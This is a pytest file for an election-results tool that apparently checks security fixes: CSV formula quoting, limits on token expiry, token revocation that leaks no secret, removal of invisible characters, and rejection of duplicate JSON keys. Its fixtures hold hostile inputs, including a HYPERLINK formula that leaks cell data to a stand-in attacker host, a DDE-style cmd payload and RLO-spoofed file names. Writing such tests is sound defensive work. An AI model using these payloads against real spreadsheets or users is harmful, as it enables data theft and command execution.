"""Small holes (issue 10, item 6): each one shut, with what a hostile input did before.

- CSV downloads never hand a spreadsheet a formula (OWASP CSV injection);
- a token's expiry beyond 400 days is a 422 over HTTP and exit 2 in the CLI, never a 500;
- a token revoked by its whole text is revoked, and its secret is echoed nowhere (body, log);
- text shown on the website has no bidirectional controls or zero-width characters;
- JSON with a duplicated key is refused by ``saylau.text.loads_strict``, naming key and path;
- ``saylau audit verify`` names the entry it cannot read, never "internal error".
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import io
import json
import logging
import re
import shutil
import sqlite3
import tomllib
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from conftest import EXAMPLES, run_cli
from saylau import spec
from saylau.errors import InputError, SaylauError
from saylau.publish.tables import cell, results_csv, territories_csv
from saylau.results import evaluate
from saylau.server import create_app
from saylau.store import Store
from saylau.store.tokens import MAX_LIFETIME, Tokens, parse_duration
from saylau.text import BIDI_CONTROLS, HIDDEN, ZERO_WIDTH, DuplicateKeyError, loads_strict, shown
from saylau.web.templating import env

ROOT = Path(__file__).resolve().parents[2]
TINY = ROOT / "tests" / "data" / "tiny"
PROTOCOLS = [TINY / "protocols" / f"{c}.csv" for c in ("council-list", "d1", "d2")]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# -- 1. CSV exports ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_results(tmp_path_factory: pytest.TempPathFactory):
    """The tiny election with names and ids a spreadsheet would run as formulas."""
    folder = tmp_path_factory.mktemp("hostile") / "tiny"
    shutil.copytree(TINY, folder)
    toml = folder / "election.toml"
    toml.write_text(
        toml.read_text(encoding="utf-8").replace(
            'en = "Party A"', 'en = "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Party A\\")"'
        ),
        encoding="utf-8",
    )
    candidates = folder / "candidates.csv"
    candidates.write_text(
        candidates.read_text(encoding="utf-8").replace("Gulnar", "@SUM(1+1)*cmd|' /C calc'!A0"),
        encoding="utf-8",
    )
    territories = folder / "territories.csv"
    territories.write_text(
        territories.read_text(encoding="utf-8").replace(",North", ",+1+1").replace(",South", ",-2+3"),
        encoding="utf-8",
    )
    return evaluate(spec.load(folder))


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile_results) -> None:
    tables = {
        "results": results_csv(hostile_results, "en"),
        **{level: territories_csv(hostile_results, level, "en") for level in ("region", "station")},
    }
    for name, text in tables.items():
        for row in _cells(text):
            for value in row:
                assert not value.startswith(FORMULA_START), (name, value)
    results = {r[3]: r for r in _cells(tables["results"])}
    assert results["a"][4] == "'" + '=HYPERLINK("http://evil.example/?leak="&A1,"Party A")'
    assert results["c2"][4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    regions = {r[1]: r for r in _cells(tables["region"])}
    assert (regions["R1"][2], regions["R2"][2]) == ("'+1+1", "'-2+3")
    # the counts are untouched integers: the file still adds up
    plain = {r[3]: r for r in _cells(results_csv(evaluate(spec.load(TINY)), "en"))}
    assert [results[o][6] for o in ("a", "c2")] == [plain[o][6] for o in ("a", "c2")] == ["930", "460"]
    assert all(re.fullmatch(r"\d+", v) for v in regions["R1"][5:9])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701 000 00 00", "'+7 701 000 00 00"),
        ("-2", "'-2"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # already quoted: one more, so removing one gives the text back
        ("'x", "'x"),
        ("a=b", "a=b"),
        ("Party A", "Party A"),
        ("53.90", "53.90"),
        ("", ""),
        (0, 0),
        (1_000_000, 1_000_000),
    ],
)
def test_the_quoting_rule_is_exact_and_reversible(value: object, written: object) -> None:
    assert cell(value) == written
    if isinstance(written, str) and re.match(r"'+[=+\-@\t\r]", written):
        assert written[1:] == value  # the documented way back


# -- 2. token expiry ------------------------------------------------------------------------------


@pytest.fixture
def tiny_store(tmp_path: Path) -> str:
    url = str(tmp_path / "tiny.db")
    Store.create(url, spec.Files(TINY), actor="test").close()
    return url


@pytest.fixture
def admin(tiny_store: str) -> str:
    with Tokens(tiny_store) as tokens:
        return tokens.create("admin", actor="test", name="desk").text


@pytest.fixture
def api(tiny_store: str, admin: str) -> Iterator[TestClient]:
    with TestClient(create_app(tiny_store), raise_server_exceptions=False) as c:
        c.headers["Authorization"] = f"Bearer {admin}"
        yield c


def _problem(r, status: int) -> dict:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/problem+json"
    return r.json()


@pytest.mark.parametrize("expires", ["999999w999999w", "999999w", "401d", "57w2d"])
def test_an_expiry_beyond_400_days_is_a_422_not_a_500(api: TestClient, tiny_store: str, expires: str) -> None:
    with Tokens(tiny_store) as tokens:
        head = tokens.head()
    doc = _problem(api.post("/api/v1/tokens", json={"role": "observer", "expires": expires}), 422)
    assert "400 days" in doc["detail"] and doc["errors"][0]["field"] == "expires"
    with Tokens(tiny_store) as tokens:
        assert tokens.head() == head  # nothing issued
    made = api.post("/api/v1/tokens", json={"role": "observer", "expires": "400d"})
    assert made.status_code == 201, made.text


def test_an_expiry_beyond_400_days_is_exit_2_in_the_cli(tiny_store: str) -> None:
    for expires in ("999999w", "401d", "999999w" * 200):
        proc = run_cli("token", "create", tiny_store, "--role", "observer", "--expires", expires)
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr.startswith("error: --expires: ") and proc.stderr.count("\n") == 1
        assert "400 days" in proc.stderr and "internal error" not in proc.stderr
        assert proc.stdout == ""
    done = run_cli("token", "create", tiny_store, "--role", "observer", "--expires", "400d")
    assert done.returncode == 0, done.stderr


def test_no_lifetime_overflows_the_calendar(tiny_store: str) -> None:
    with pytest.raises(InputError, match="400 days"):
        parse_duration("999999w" * 1000)  # more days than a timedelta holds
    with Tokens(tiny_store) as tokens:
        for lifetime in (MAX_LIFETIME + datetime.timedelta(seconds=1), datetime.timedelta.max):
            with pytest.raises(InputError, match="400 days"):
                tokens.create("observer", actor="test", expires=lifetime)
        with pytest.raises(InputError, match="calendar"):
            tokens.create("observer", actor="test", expires=datetime.timedelta.min)
        assert tokens.create("observer", actor="test", expires=MAX_LIFETIME).token.expires_at


# -- 3. revoking by the token's text ---------------------------------------------------------------


def test_revoking_by_the_whole_text_works_and_echoes_no_secret(
    api: TestClient, tiny_store: str, caplog: pytest.LogCaptureFixture
) -> None:
    with Tokens(tiny_store) as tokens:
        issued = tokens.create("observer", actor="test", name="lost laptop")
    text, secret = issued.text, issued.text[-43:]
    caplog.set_level(logging.DEBUG)
    done = api.delete(f"/api/v1/tokens/{text}")
    assert done.status_code == 200, done.text
    assert done.json()["id"] == issued.token.id and done.json()["revoked_at"]
    again = api.delete(f"/api/v1/tokens/{text}")
    assert issued.token.id in _problem(again, 409)["detail"]
    near = text[:-1]  # a typo: not a token's text, and still nearly a secret
    missing = api.delete(f"/api/v1/tokens/{near}")
    assert "not repeated" in _problem(missing, 404)["detail"]
    for r in (done, again, missing):
        assert secret[:20] not in r.text
    # what the server logged (httpx, the client here, logs its own request line)
    server = [r.getMessage() for r in caplog.records if not r.name.startswith("httpx")]
    assert not any(secret[:20] in line for line in server)
    with TestClient(create_app(tiny_store)) as fresh:  # the revoked token is refused
        fresh.headers["Authorization"] = f"Bearer {text}"
        assert fresh.get("/api/v1/results").status_code == 401


def test_revoking_by_the_whole_text_in_the_cli(tiny_store: str) -> None:
    with Tokens(tiny_store) as tokens:
        issued = tokens.create("observer", actor="test")
    secret = issued.text[-43:]
    done = run_cli("token", "revoke", tiny_store, issued.text)
    assert done.returncode == 0 and f"token {issued.token.id} (observer) revoked" in done.stdout
    again = run_cli("token", "revoke", tiny_store, issued.text)
    assert again.returncode == 2 and "already revoked" in again.stderr
    near = run_cli("token", "revoke", tiny_store, issued.text[:-1])
    assert near.returncode == 2 and near.stderr.startswith("error: ") and "not repeated" in near.stderr
    for proc in (done, again, near):
        assert secret[:20] not in proc.stdout + proc.stderr


def test_the_access_log_shows_a_token_id_never_its_text(
    tiny_store: str, admin: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Through uvicorn: a token's text in a path (a revocation by text) stays out of the log."""
    from test_api import Server  # the real server and its access log

    with Tokens(tiny_store) as tokens:
        victim = tokens.create("observer", actor="test")
    with Server(tiny_store) as server, server.client(admin) as c:
        assert c.delete(f"/api/v1/tokens/{victim.text}").status_code == 200
        with server.client() as anonymous:  # not an admin: refused, the path still logged
            assert anonymous.delete(f"/api/v1/tokens/{admin}").status_code == 401
        log = server.log.getvalue()
    assert f"/api/v1/tokens/saylau_{victim.token.id}_…" in log
    assert victim.text[-43:][:20] not in log and admin[-43:][:20] not in log


# -- 4. invisible characters in text shown to readers --------------------------------------------


def test_shown_drops_bidi_controls_and_zero_width_characters() -> None:
    assert len(BIDI_CONTROLS) == 12 and len(ZERO_WIDTH) == 5
    for c in HIDDEN:
        assert shown(f"a{c}b") == "ab"
    assert shown("invoice\u202egpj.exe") == "invoicegpj.exe"
    assert shown("\u2067Amanat\u2069 \u200bwins\ufeff") == "Amanat wins"
    for kept in ("Аманат", "Қазақстан Республикасы", "Ақ жол", "Партия «Аманат»", "حزب", "plain"):
        assert shown(kept) == kept


def test_legitimate_names_survive() -> None:
    """Kazakh, Russian and Hebrew names of the bundled examples show exactly as written."""
    names: list[str] = []
    for example in ("kz-2023", "il-2022"):
        doc = tomllib.loads((EXAMPLES / example / "election.toml").read_text(encoding="utf-8"))
        for party in doc.get("parties", []):
            names.extend(v for v in party.get("name", {}).values() if isinstance(v, str))
    assert any(re.search("[\u0590-\u05ff]", n) for n in names)  # Hebrew is there
    assert any(re.search("[әғқңөұүһі]", n) for n in names)  # so is Kazakh
    for name in names:
        assert shown(name) == name


def test_every_printed_value_goes_through_shown() -> None:
    page = env.from_string("<p title='{{ t }}'>{{ a }}|{{ b|shown }}|{{ n }}</p>").render(
        t="x\u202ey", a="TEC\u200d North\u2066", b="<b>\u202e", n=5
    )
    assert page == "<p title='xy'>TEC North|&lt;b&gt;|5</p>"


@pytest.fixture
def hostile_station(tiny_store: str) -> str:
    """S1's protocol sent by a hostile actor and corrected with a hostile reason and file name."""
    with Store.open(tiny_store) as store:
        first = [p for p in spec.load(TINY).protocols if p.station == "S1"]
        store.submit(first, actor="TEC \u202eNorth", source="protocol\u202efdp.exe")
        changed = [
            dataclasses.replace(p, votes={**p.votes, "a": p.votes["a"] - 1, "b": p.votes["b"] + 1})
            if p.contest == "council-list"
            else p
            for p in first
        ]
        store.submit(
            changed,
            actor="TEC\u200b North",
            reason="recount \u2067ordered\u2069\u200f by the TEC",
            source="x",
        )
    return tiny_store


def test_the_station_page_shows_no_invisible_characters(hostile_station: str) -> None:
    with TestClient(create_app(hostile_station)) as c:
        r = c.get("/en/station/S1")
    assert r.status_code == 200, r.text
    assert not set(r.text) & HIDDEN
    assert "recount ordered by the TEC" in r.text
    assert "protocolfdp.exe" in r.text and "TEC North" in r.text


# -- 5. duplicate keys in JSON -------------------------------------------------------------------


def test_loads_strict_refuses_duplicate_keys_naming_key_and_path() -> None:
    doc = '{"protocols": [{"station": "S1", "votes": {"a": 5, "b": 1, "a": 500}}]}'
    assert json.loads(doc)["protocols"][0]["votes"]["a"] == 500  # json.loads keeps the last one
    with pytest.raises(DuplicateKeyError) as e:
        loads_strict(doc)
    assert (e.value.key, e.value.path) == ("a", "$.protocols[0].votes")
    assert 'duplicate key "a" in the object at $.protocols[0].votes' in str(e.value)
    assert isinstance(e.value, ValueError) and isinstance(e.value, SaylauError)
    with pytest.raises(DuplicateKeyError, match=r'"station" in the object at \$'):
        loads_strict('{"station": "S1", "station": "S2"}')
    with pytest.raises(DuplicateKeyError, match=r'at \$\["odd key"\]\[1\]'):
        loads_strict('{"odd key": [{}, {"x": 1, "x": 1}]}')


def test_loads_strict_reads_what_json_reads_and_refuses_nan() -> None:
    doc = '{"a": [1, {"b": null, "c": "Аманат"}], "d": {"a": 1}, "e": 1.5}'
    assert loads_strict(doc) == json.loads(doc)
    assert loads_strict(doc.encode()) == json.loads(doc)
    for bad in ('{"a": NaN}', "[Infinity]", "-Infinity"):
        with pytest.raises(ValueError, match="not JSON"):
            loads_strict(bad)
    with pytest.raises(json.JSONDecodeError):
        loads_strict('{"a": ')


# -- 6. audit verify on a store with an unreadable row -------------------------------------------


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("audit") / "store.db"
    assert run_cli("init", str(db), "--election", str(TINY)).returncode == 0
    for path in PROTOCOLS:
        proc = run_cli("import", str(db), str(path))
        assert proc.returncode == 0, proc.stderr
    return db


@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        # the chain itself: bytes, or text that is not UTF-8, where text is expected
        ("UPDATE audit_log SET actor = X'C3' WHERE seq = 3", "entry 3: audit entry 3: cannot read its actor"),
        (
            "UPDATE audit_log SET subject = CAST(X'C3FF' AS TEXT) WHERE seq = 4",
            "entry 4: audit entry 4: cannot read its subject",
        ),
        # a protocol row: its counts or its entry number unreadable
        (
            "UPDATE protocol_versions SET figures = 'text' WHERE station = 'S2' AND contest = 'council-list'",
            "entry 3: audit entry 3 (protocol row S2/council-list/v1): cannot read its figures",
        ),
        (
            "UPDATE protocol_versions SET layout = CAST(X'C3FF' AS TEXT) WHERE audit_seq = 5",
            "entry 5: audit entry 5: cannot read the layout of its protocol row",
        ),
        (
            "UPDATE protocol_versions SET figures = X'FF' WHERE audit_seq = 5",
            "entry 5: audit entry 5 (protocol S4/council-list/v1): the protocol row's figures do not fit",
        ),
        (
            "UPDATE protocol_versions SET audit_seq = 'seven' WHERE audit_seq = 6",
            "entry 6: audit entry 6 (protocol S1/d1/v1): its protocol row is missing",
        ),
        (
            "UPDATE protocol_versions SET version = 'two' WHERE audit_seq = 6",
            "entry 6: audit entry 6 (a protocol row): cannot read its version",
        ),
        # the definition
        (
            "UPDATE definition_files SET content = 'text' WHERE path = 'stations.csv'",
            "entry 1: audit entry 1 (define): definition file stations.csv: cannot read its content",
        ),
        (
            "UPDATE definition_files SET sha256 = CAST(X'C3FF' AS TEXT) WHERE path = 'stations.csv'",
            "entry 1: audit entry 1 (define): cannot read the sha256 of definition file stations.csv",
        ),
    ],
)
def test_audit_verify_names_the_entry_it_cannot_read(
    imported: Path, tmp_path: Path, sql: str, expected: str
) -> None:
    db = tmp_path / "copy.db"
    shutil.copy(imported, db)
    with sqlite3.connect(db) as conn:
        assert conn.execute(sql).rowcount == 1
    proc = run_cli("audit", "verify", str(db))
    assert proc.returncode == 1, proc.stdout
    assert proc.stderr.startswith("audit: FAILED at entry ") and proc.stderr.count("\n") == 1, proc.stderr
    assert expected in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr and "Traceback" not in proc.stderr


def test_audit_verify_still_passes_an_intact_store(imported: Path) -> None:
    proc = run_cli("audit", "verify", str(imported))
    assert proc.returncode == 0 and proc.stdout.startswith("audit: ok, "), proc.stderr
